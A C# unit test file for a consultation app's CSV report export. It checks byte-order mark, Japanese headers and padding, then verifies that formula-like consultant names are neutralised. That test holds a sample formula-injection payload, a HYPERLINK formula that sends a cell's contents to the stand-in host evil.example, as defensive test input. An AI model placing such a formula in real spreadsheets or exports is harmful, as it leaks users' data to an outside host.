using System.Text;
using ConsultDesk.Features.Reports;
using ConsultDesk.Tests;

namespace ConsultDesk.UnitTests.Reports;

public sealed class ReportCsvTests
{
    [Fact]
    public void The_caseload_csv_separates_its_two_tables_with_a_blank_line_and_pads_every_record_to_one_width()
    {
        var report = new CaseloadReport.Response(new DateTime(2026, 12, 1, 0, 0, 0, DateTimeKind.Utc), 0, 0, 0, 0, [],
            [new CaseloadReport.AgeBucket(0, 1, 0), new CaseloadReport.AgeBucket(1, null, 0)]);

        var bytes = ReportCsv.Caseload(report, english: false);

        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.StartsWith("担当者,", text, StringComparison.Ordinal);
        // 担当者, six statuses, 合計, 期限超過, 期限間近: ten fields in every record.
        Assert.Contains("\r\n,,,,,,,,,\r\n経過営業日数,件数,,,,,,,,\r\n0-0,0,,,,,,,,\r\n1+,0,,,,,,,,\r\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Consultant_names_that_look_like_formulas_open_as_text_and_counts_stay_numbers()
    {
        const string hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";
        var names = new[] { hyperlink, "+cmd", "-1+2", "@SUM(A1)", "\tTab", "\rCR" };
        var caseload = new CaseloadReport.Response(new DateTime(2026, 12, 1, 0, 0, 0, DateTimeKind.Utc), 12, 0, 0, 0,
            names.Select(n => new CaseloadReport.ConsultantLoad(Guid.NewGuid(), n, new Dictionary<string, int> { ["new"] = 2 }, 2, 0, 0)).ToList(),
            [new CaseloadReport.AgeBucket(0, null, 12)]);
        var measure = new SpeedReport.Measure(3, 1.5, 2, 3, 1);
        var speed = new SpeedReport.Response(new DateOnly(2026, 11, 1), new DateOnly(2026, 11, 30), measure, measure,
            names.Select(n => new SpeedReport.Group("x", n, measure, measure)).ToList(), []);

        foreach (var bytes in new[] { ReportCsv.Caseload(caseload, english: true), ReportCsv.Speed(speed, english: true) })
        {
            Assert.Empty(SpreadsheetCsv.Formulas(bytes));
            var cells = SpreadsheetCsv.Parse(bytes).SelectMany(r => r).ToList();
            Assert.Contains("'" + hyperlink, cells);
            Assert.Contains("'\rCR", cells);
        }
        var consultantRow = SpreadsheetCsv.Parse(ReportCsv.Caseload(caseload, english: true))[1];
        Assert.Equal(["'" + hyperlink, "2", "0", "0", "0", "0", "0", "2", "0", "0"], consultantRow);
    }
}
